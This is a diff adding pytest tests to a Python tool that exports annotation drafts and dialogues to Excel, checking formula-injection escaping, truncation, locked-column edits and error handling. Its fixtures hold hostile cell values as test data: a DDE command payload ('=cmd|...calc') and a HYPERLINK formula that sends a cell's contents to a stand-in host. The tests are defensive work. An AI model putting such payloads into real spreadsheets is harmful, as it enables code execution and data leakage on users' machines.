@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import os
 import subprocess
 import sys
 import zipfile
@@ -337,3 +338,157 @@ def test_export_work_grows_linearly(exported, instrument, tmp_path, monkeypatch)
     calls, reads = _export_work(exported, instrument, tmp_path, monkeypatch, 1)
     calls4, reads4 = _export_work(exported, instrument, tmp_path, monkeypatch, 4)
     assert calls4 / calls <= 4 and reads4 == reads
+
+
+# ------------------------------------------------------------------ hostile text (issue 24)
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "-2 (turn 1)",
+            "@SUM(1,2)", "'=already quoted", "\t=tab first"]
+
+
+def formula_cells(path) -> list[str]:
+    """Every cell a spreadsheet would compute: ``<f>`` elements in any sheet part."""
+    with zipfile.ZipFile(path) as z:
+        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory, instrument, small_corpus):
+    """A corpus whose ids and turns start like formulas, its drafts (one a formula too), and
+    the sheet exported from them: (drafts, sessions, sheet path, sessions path)."""
+    import copy
+
+    records = copy.deepcopy(small_corpus[1][:4])
+    records[0]["session_id"] = "=cmd|' /C calc'!A0"
+    for n, text in enumerate(FORMULAS):
+        records[1]["turns"][n]["text"] = text
+    root = tmp_path_factory.mktemp("hostile_sheet")
+    write_jsonl(root / "sessions.jsonl", records)
+    sessions = load_sessions(root / "sessions.jsonl", instrument)
+    drafts = draft_rationales(sessions, instrument, "extractive", {}, cache_dir="unused")
+    drafts[1]["draft"] = "=1+1 (turn 2)"
+    export_sheet(drafts, sessions, instrument, root / "sheet.xlsx")
+    return drafts, sessions, root / "sheet.xlsx", root / "sessions.jsonl"
+
+
+def test_no_cell_is_a_formula_and_the_round_trip_is_lossless(hostile, instrument, tmp_path):
+    """Before: ids, turns and drafts starting with '=' were live formulas, and an id that
+    became one broke the import ('empty session id')."""
+    drafts, sessions, path, _ = hostile
+    assert formula_cells(path) == []
+    ws = load_workbook(path)[SHEET]
+    assert ws["A2"].value == "'=cmd|' /C calc'!A0" and ws["G3"].value == "'=1+1 (turn 2)"
+    frame = import_edits(read_sheet(path), drafts, instrument)  # every draft accepted
+    assert frame["session_id"].tolist() == sorted(d["session_id"] for d in drafts)
+    by_key = {(d["session_id"], d["item_id"]): d["draft"].strip() for d in drafts}
+    assert all(by_key[(r.session_id, r.item_id)] == r.final for r in frame.itertuples())
+    # a reviewer's (here the simulated expert's) text that starts like a formula comes back
+    finals = {(d["session_id"], d["item_id"]): f"{FORMULAS[n % 6]} (turn 1)"
+              for n, d in enumerate(drafts)}
+    filled = tmp_path / "filled.xlsx"
+    fill_sheet(path, finals, "e1", filled)
+    assert formula_cells(filled) == []
+    frame = import_edits(read_sheet(filled), drafts, instrument)
+    assert all(finals[(r.session_id, r.item_id)].strip() == r.final for r in frame.itertuples())
+
+
+def test_the_dialogue_keeps_formula_text_as_text(hostile):
+    _, sessions, path, _ = hostile
+    texts = [r[3] for r in load_workbook(path)[DIALOGUES].iter_rows(values_only=True)]
+    from care.io import from_cell
+
+    assert [t for t in map(str, texts) if from_cell(t) in FORMULAS] == [
+        t if not t.startswith(("=", "+", "-", "@", "'", "\t")) else "'" + t for t in FORMULAS
+    ]
+
+
+def test_human_eval_sheet_cells_are_never_formulas(tmp_path):
+    import pandas as pd
+    from care.evaluate.human_eval import export_sheet as export_ratings
+
+    sheet = pd.DataFrame({"row_id": ["r0001"], "session_id": ["=s1"], "rationale": [FORMULAS[0]]})
+    dialogues = pd.DataFrame({"session_id": ["=s1"], "turn": [1], "text": ["@SUM(1)"]})
+    out = tmp_path / "ratings.xlsx"
+    export_ratings(out, sheet, dialogues)
+    assert formula_cells(out) == []
+
+
+def test_long_turns_are_cut_saying_where_the_whole_turn_is(exported, instrument, tmp_path, caplog):
+    """Before: cut at 32,767 characters (a cell's limit) without a word."""
+    import dataclasses
+
+    from care.rationales.sheet import MAX_CELL_CHARS
+
+    drafts, sessions, _ = exported
+    first = sessions[0]
+    long_turn = dataclasses.replace(first.turns[0], text="long words " * 4000)
+    turns = (long_turn, *first.turns[1:])
+    changed = [dataclasses.replace(first, turns=turns), *sessions[1:]]
+    out = tmp_path / "long.xlsx"
+    with caplog.at_level("WARNING"):
+        export_sheet(drafts, changed, instrument, out, source="data/sessions.jsonl")
+    cells = [r[3] for r in load_workbook(out)[DIALOGUES].iter_rows(values_only=True)]
+    (cut,) = [c for c in cells if c and c.startswith("long words")]
+    assert len(cut) <= MAX_CELL_CHARS
+    assert cut.endswith(f"the whole turn is turns[0] of line {first.line} of data/sessions.jsonl]")
+    assert "1 turn(s) longer than a cell's 32,767 characters are cut" in caplog.text
+
+
+def test_edits_to_any_locked_column_are_reported(exported, instrument, tmp_path, caplog):
+    """Before: only the draft column was compared; an edited dimension went unseen."""
+    drafts, sessions, path = exported
+    with caplog.at_level("WARNING"):
+        import_edits(read_sheet(path), drafts, instrument, sessions=sessions)
+    assert "locked column" not in caplog.text  # the export as it is: nothing to report
+    edited = edited_copy(exported, tmp_path, set_cells(C2="Bond", C5="Bond", D3="Another item",
+                                                      F4="Never", H2="(1) made up"))
+    caplog.clear()
+    with caplog.at_level("WARNING"):
+        import_edits(read_sheet(edited), drafts, instrument, sessions=sessions)
+    for column, count, first in [("dimension", 2, 2), ("item", 1, 3), ("rating_label", 1, 4),
+                                 ("cited_turns", 1, 2)]:
+        assert f"the locked column '{column}' was edited on {count} row(s) (first: row {first})" \
+            in caplog.text
+    assert caplog.text.count("locked column") == 4
+
+
+def test_a_returned_sheet_with_xml_entities_is_one_line(exported, tmp_path):
+    """Before: an ExpatError (ParseError) traceback while the rows were read."""
+    bad = tmp_path / "entities.xlsx"
+    with zipfile.ZipFile(exported[2]) as src, zipfile.ZipFile(bad, "w") as dst:
+        for name in src.namelist():
+            data = src.read(name)
+            if name == "xl/worksheets/sheet1.xml":
+                data = data.replace(b"</sheetData>", b'<row r="9999"><c r="A9999" '
+                                    b't="inlineStr"><is><t>&lol;</t></is></c></row></sheetData>')
+            dst.writestr(name, data)
+    with pytest.raises(CareInputError, match="cannot read the workbook: undefined entity") as e:
+        read_sheet(bad)
+    assert "\n" not in str(e.value)
+
+
+def test_a_full_disk_during_export_is_one_line(hostile, instrument, tmp_path):
+    """A file-size limit (as a full disk) while the workbook is written: one line, exit 1,
+    no partial workbook. Before: ``SerialisationError: IO_EFBIG`` with a traceback."""
+    import resource
+
+    drafts, _, _, sessions_path = hostile
+    write_jsonl(tmp_path / "drafts.jsonl", drafts)
+    out = tmp_path / "out/sheet.xlsx"
+    limit = 8192  # bytes: the workbook needs more
+
+    def small_files():
+        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
+
+    proc = subprocess.run(
+        [sys.executable, "-m", "care.cli", "rationales", "export", "--drafts",
+         str(tmp_path / "drafts.jsonl"), "--sessions", str(sessions_path), "--instrument",
+         instrument.path, "--out", str(out)],
+        capture_output=True, text=True, timeout=120, preexec_fn=small_files,
+        env={**os.environ, "TMPDIR": str(tmp_path)},
+    )
+    assert proc.returncode == 1, proc.stderr[-2000:]
+    assert "Traceback" not in proc.stderr
+    errors = [line for line in proc.stderr.splitlines() if ": error: " in line]
+    assert len(errors) == 1 and ("File too large" in errors[0] or "EFBIG" in errors[0])
+    assert not out.exists() and not list(out.parent.glob(".sheet.xlsx*"))
